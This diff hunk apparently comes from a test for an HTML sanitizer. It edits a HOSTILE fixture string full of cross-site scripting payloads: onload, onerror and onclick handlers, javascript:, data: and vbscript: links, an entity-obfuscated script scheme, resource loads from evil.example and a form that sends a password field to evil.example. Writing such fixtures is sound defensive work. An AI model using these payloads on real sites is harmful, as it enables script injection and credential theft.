@@ -13,7 +13,8 @@ HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv="re
 <body onload="alert(1)" background="https://evil.example/d.gif"><script>alert(2)</script>
 <p style="color:#123456;background:url('https://evil.example/e.gif');position:fixed;top:0" onclick="alert(3)">Good day</p>
 <img src="https://evil.example/f.gif" onerror="alert(4)"><img src="x" onerror=alert(5)><img srcset="https://evil.example/g.gif 1x">
-<a href="javascript:alert(6)">one</a><a href="java&#10;script:alert(7)">two</a><a href="data:text/html,<script>alert(8)</script>">three</a>
+<a href="javascript:alert(6)">one</a><a href="java&#10;script:alert(7)">two</a>
+<a href="data:text/html,<script>alert(8)</script>">three</a>
 <a href="https://good.example/">four</a><a href="vbscript:x">five</a>
 <form action="https://evil.example/"><input name="password"><button formaction="https://evil.example/">Go</button></form>
 <svg onload="alert(9)"><script>alert(10)</script><image href="https://evil.example/h.svg"/></svg>
